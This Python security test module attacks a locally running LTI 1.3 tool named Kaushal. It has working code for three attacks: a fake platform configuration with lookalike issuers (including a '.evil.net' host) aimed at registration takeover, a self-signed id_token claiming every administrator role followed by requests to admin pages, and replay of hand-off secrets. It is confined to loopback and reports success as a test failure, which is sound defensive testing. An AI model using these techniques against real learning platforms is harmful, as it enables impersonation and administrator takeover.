"""An attacker's script against a running Kaushal, on loopback only.

    python -m tests.security.attacker http://127.0.0.1:PORT [--invite TOKEN]
        [--victim-issuer URL --victim-client-id ID] [--handoff-launch ID --handoff-secret S]

It tries, and reports as JSON which attempt got anywhere:

1. *registration takeover*: with a registration link (``--invite``), serve a fake platform
   configuration on another loopback port whose issuer is a look-alike of the victim's (a string
   prefix of it, or the victim's own issuer) and whose registration endpoint answers with the
   victim's client id, hoping to overwrite the victim's login and key-set URLs with ours;
2. *forged launch*: start an OIDC login as the victim platform, sign an id_token with our own key
   (published by the fake server's JWKS, which a successful takeover would have made trusted),
   claiming every administrator role, and ask for ``/admin/`` and ``/django-admin/`` with the
   session it got;
3. *hand-off replay*: present a hand-off (launch id and secret, e.g. read from a log or seen
   once) again, and the old GET form of the hand-off URL.

``FakeServer`` is also used by the tests to serve malformed platform configurations.
"""

from __future__ import annotations

import argparse
import json
import sys
import threading
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qsl, urlsplit

import jwt
import requests
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from jwcrypto.jwk import JWK

LIS = "http://purl.imsglobal.org/vocab/lis/v2/"
ADMIN_ROLES = [
    LIS + "institution/person#Administrator",
    LIS + "system/person#Administrator",
    LIS + "membership#Administrator",
    LIS + "membership#ContentDeveloper",
    LIS + "membership#Instructor",
]
CLAIM = "https://purl.imsglobal.org/spec/lti/claim/"
TIMEOUT = 10

# A route answers (status, headers, body); a callable gets (method, path, headers, body).
Answer = tuple[int, dict[str, str], bytes]
Route = Answer | Callable[[str, str, dict, bytes], Answer]


def json_answer(data: object, status: int = 200) -> Answer:
    return status, {"Content-Type": "application/json"}, json.dumps(data).encode()


class FakeServer:
    """A threaded HTTP server on 127.0.0.1 serving fixed or computed answers per path."""

    def __init__(self) -> None:
        self.routes: dict[str, Route] = {}
        self.calls: list[tuple[str, str]] = []
        server = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def _serve(self, method: str) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else b""
                path = urlsplit(self.path).path
                server.calls.append((method, path))
                route = server.routes.get(path)
                if route is None:
                    status, headers, data = 404, {}, b"not found"
                elif callable(route):
                    status, headers, data = route(method, path, dict(self.headers), body)
                else:
                    status, headers, data = route
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_GET(self) -> None:
                self._serve("GET")

            def do_POST(self) -> None:
                self._serve("POST")

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self._thread = threading.Thread(
            target=self._server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True
        )
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@dataclass
class Forger:
    """The attacker's own RSA key, published as a JWKS by the fake server."""

    kid: str = field(default_factory=lambda: "attacker-" + uuid.uuid4().hex[:8])
    private_pem: str = ""

    def __post_init__(self) -> None:
        key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        self.private_pem = key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        ).decode()
        public_pem = key.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        self.jwk = {**json.loads(JWK.from_pem(public_pem).export_public()), "kid": self.kid}
        self.jwk.update({"alg": "RS256", "use": "sig"})

    def sign(self, claims: dict) -> str:
        return jwt.encode(claims, self.private_pem, algorithm="RS256", headers={"kid": self.kid})


def fake_platform_configuration(server: FakeServer, *, issuer: str) -> dict:
    return {
        "issuer": issuer,
        "authorization_endpoint": f"{server.url}/auth",
        "token_endpoint": f"{server.url}/token",
        "jwks_uri": f"{server.url}/jwks",
        "registration_endpoint": f"{server.url}/register",
    }


def takeover_issuers(victim_issuer: str, server: FakeServer) -> list[str]:
    """Issuers a lax check might accept from our server while naming the victim."""
    issuers = [victim_issuer, server.url[:-1]]  # the victim itself, and "port 809 of 8091"
    host = urlsplit(victim_issuer).hostname or ""
    if host:
        issuers.append(victim_issuer.replace(host, host + ".evil.net", 1))
    return issuers


def try_registration_takeover(
    base: str, *, invite: str, victim_issuer: str, victim_client_id: str, server: FakeServer
) -> list[dict]:
    results = []
    server.routes["/register"] = json_answer(
        {"client_id": victim_client_id, "redirect_uris": [f"{base}/lti/launch/"]}
    )
    for issuer in takeover_issuers(victim_issuer, server):
        server.routes["/.well-known/openid-configuration"] = json_answer(
            fake_platform_configuration(server, issuer=issuer)
        )
        for config_url in (
            f"{server.url}/.well-known/openid-configuration",
            f"{server.url}/.well-known/openid-configuration?issuer={issuer}",
        ):
            response = requests.get(
                f"{base}/lti/register/{invite}/",
                params={"openid_configuration": config_url, "registration_token": "x"},
                timeout=TIMEOUT,
                allow_redirects=False,
            )
            results.append(
                {
                    "attempt": "registration takeover",
                    "issuer": issuer,
                    "status": response.status_code,
                    "succeeded": response.status_code == 200,
                }
            )
    return results


def try_forged_admin_launch(
    base: str, *, victim_issuer: str, victim_client_id: str, forger: Forger
) -> list[dict]:
    """A launch as the victim platform signed with our key, claiming every admin role."""
    session = requests.Session()
    login = session.get(
        f"{base}/lti/login/",
        params={
            "iss": victim_issuer,
            "client_id": victim_client_id,
            "login_hint": "attacker",
            "target_link_uri": f"{base}/lti/launch/",
            "lti_message_hint": "x",
        },
        timeout=TIMEOUT,
        allow_redirects=False,
    )
    results: list[dict] = []
    location = login.headers.get("Location", "")
    query = dict(parse_qsl(urlsplit(location).query))
    launched = False
    if login.status_code == 302 and query.get("state") and query.get("nonce"):
        now = int(time.time())
        token = forger.sign(
            {
                "iss": victim_issuer,
                "aud": victim_client_id,
                "sub": "attacker",
                "iat": now,
                "exp": now + 300,
                "nonce": query["nonce"],
                CLAIM + "message_type": "LtiResourceLinkRequest",
                CLAIM + "version": "1.3.0",
                CLAIM + "deployment_id": "1",
                CLAIM + "target_link_uri": f"{base}/lti/launch/",
                CLAIM + "resource_link": {"id": "attack"},
                CLAIM + "roles": ADMIN_ROLES,
            }
        )
        response = session.post(
            f"{base}/lti/launch/",
            data={"id_token": token, "state": query["state"]},
            timeout=TIMEOUT,
            allow_redirects=False,
        )
        launched = response.status_code in (200, 302)
        results.append(
            {"attempt": "forged launch", "status": response.status_code, "succeeded": launched}
        )
    else:
        results.append(
            {"attempt": "forged launch", "status": login.status_code, "succeeded": False}
        )
    for path in ("/admin/", "/django-admin/", "/django-admin/lti/platformregistration/"):
        response = session.get(f"{base}{path}", timeout=TIMEOUT, allow_redirects=False)
        results.append(
            {
                "attempt": f"admin page {path}",
                "status": response.status_code,
                "succeeded": response.status_code == 200,
            }
        )
    return results


def try_handoff_replay(base: str, *, launch_id: str, secret: str) -> list[dict]:
    results = []
    post_url = f"{base}/lti/continue/"
    for attempt, method, url, data in (
        ("hand-off replay", "POST", post_url, {"launch": launch_id, "secret": secret}),
        ("hand-off by GET", "GET", f"{base}/lti/continue/{launch_id}/", None),
        ("hand-off guess", "POST", post_url, {"launch": launch_id, "secret": "x"}),
    ):
        session = requests.Session()
        response = session.request(method, url, data=data, timeout=TIMEOUT, allow_redirects=False)
        # Signed in means a session cookie came back with a redirect into the product.
        signed_in = response.status_code == 302 and "sessionid" in response.cookies
        results.append({"attempt": attempt, "status": response.status_code, "succeeded": signed_in})
    return results


def jwks_route(forger: Forger) -> Answer:
    return json_answer({"keys": [forger.jwk]})


def run(
    base: str,
    *,
    invite: str = "",
    victim_issuer: str = "",
    victim_client_id: str = "",
    handoff_launch: str = "",
    handoff_secret: str = "",
) -> list[dict]:
    """Every attack this module knows; each result says whether it got anywhere."""
    base = base.rstrip("/")
    victim_issuer = victim_issuer or "https://moodle.college.edu"
    victim_client_id = victim_client_id or "kaushal"
    server = FakeServer()
    forger = Forger()
    server.routes["/jwks"] = jwks_route(forger)
    results: list[dict] = []
    try:
        results += try_registration_takeover(
            base,
            invite=invite or "no-invite",
            victim_issuer=victim_issuer,
            victim_client_id=victim_client_id,
            server=server,
        )
        results += try_forged_admin_launch(
            base, victim_issuer=victim_issuer, victim_client_id=victim_client_id, forger=forger
        )
        results += try_handoff_replay(
            base,
            launch_id=handoff_launch or "lti1p3-launch-guessed",
            secret=handoff_secret or "guessed",
        )
        # Had the server trusted our configuration or our key, it would have fetched them.
        for path in ("/.well-known/openid-configuration", "/register", "/jwks"):
            fetched = any(call_path == path for _method, call_path in server.calls)
            results.append({"attempt": f"server fetched our {path}", "succeeded": fetched})
    finally:
        server.close()
    return results


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("base", help="the Kaushal under test, e.g. http://127.0.0.1:8000")
    parser.add_argument("--invite", default="")
    parser.add_argument("--victim-issuer", default="")
    parser.add_argument("--victim-client-id", default="")
    parser.add_argument("--handoff-launch", default="")
    parser.add_argument("--handoff-secret", default="")
    args = parser.parse_args(argv)
    host = urlsplit(args.base).hostname
    if host not in ("127.0.0.1", "localhost", "::1"):
        parser.error("this script only attacks a server on the loopback interface")
    results = run(
        args.base,
        invite=args.invite,
        victim_issuer=args.victim_issuer,
        victim_client_id=args.victim_client_id,
        handoff_launch=args.handoff_launch,
        handoff_secret=args.handoff_secret,
    )
    print(json.dumps(results, indent=2))
    return 1 if any(r["succeeded"] for r in results) else 0


if __name__ == "__main__":
    sys.exit(main())
